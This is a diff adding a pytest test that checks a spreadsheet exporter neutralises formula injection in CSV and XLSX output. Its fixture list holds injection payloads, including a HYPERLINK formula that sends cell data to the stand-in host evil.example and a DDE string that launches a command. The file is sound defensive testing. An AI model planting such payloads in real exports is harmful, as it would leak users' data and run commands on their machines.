@@ -356,6 +356,43 @@ def test_export_format_reads_back(tmp_path, headers, ext) -> None:
     assert [r.record for r in p.rows] == recs
 
 
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+86 571 0000",
+    "-2+3",
+    "'=already quoted",
+    "''@two quotes",
+    "'plain quote",
+]
+
+
+@pytest.mark.parametrize("ext", ["csv", "xlsx"])
+def test_export_neutralises_formulas_and_reads_back(tmp_path, ext) -> None:
+    base = source_records(len(HOSTILE))[: len(HOSTILE)]
+    recs = [
+        expected({**r, "brand_name": name, "product": name})
+        for r, name in zip(base, HOSTILE, strict=True)
+    ]
+    rows = [record_row(r, status="valid") for r in recs]
+    path = tmp_path / f"export.{ext}"
+    write_sheet(path, rows)
+    if ext == "csv":
+        cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert "'=HYPERLINK" in path.read_text("utf-8-sig")
+    else:
+        ws = openpyxl.load_workbook(path).worksheets[0]  # not data_only: formulas would show
+        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+        assert cells and all(c.data_type == "s" for c in cells)
+        names = [row[3] for row in ws.iter_rows(min_row=2, values_only=True)]
+        assert names == HOSTILE  # text cells keep the value; no quote is added in XLSX
+    p = plan(path)
+    assert p.errors == []
+    assert [r.record.brand_name for r in p.rows] == HOSTILE
+    assert [r.record for r in p.rows] == recs
+
+
 # ------------------------------------------------------------------ values
 
 
